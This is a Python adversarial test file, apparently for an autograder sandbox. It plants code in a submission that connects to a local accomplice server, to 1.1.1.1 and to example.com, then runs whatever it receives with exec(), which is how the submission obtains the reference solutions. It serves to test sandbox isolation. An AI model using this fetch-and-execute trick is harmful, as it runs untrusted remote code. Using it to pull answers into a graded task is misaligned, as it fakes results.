"""A network connection attempt. An accomplice server on the grading machine's 127.0.0.1 (started
by build) hands out the solutions; the kernel connects to it, to a public address and to DNS, and
runs what it receives, which would earn every point."""

import socket
import threading

from tests.adversarial.harness import insert_code, solution_code

ASSIGNMENT = "01_norm_layers"
STATUSES = {"graded"}
HONEST_CELLS = set()

CODE = r'''
import socket
answer = b""
for address in (("127.0.0.1", %d), ("1.1.1.1", 53), ("example.com", 80)):
    try:
        with socket.create_connection(address, timeout=5) as connection:
            while chunk := connection.recv(65536):
                answer += chunk
        print("CONNECTED", address)
    except OSError as error:
        print("no connection to", address, error)
if answer:
    exec(answer.decode(), globals())
'''


def serve(server, payload):
    while True:
        try:
            connection, _ = server.accept()
        except OSError:
            return
        with connection:
            connection.sendall(payload)


def build(release, source):
    server = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=serve, args=(server, solution_code(source).encode()), daemon=True).start()
    return insert_code(release, 2, CODE % server.getsockname()[1])
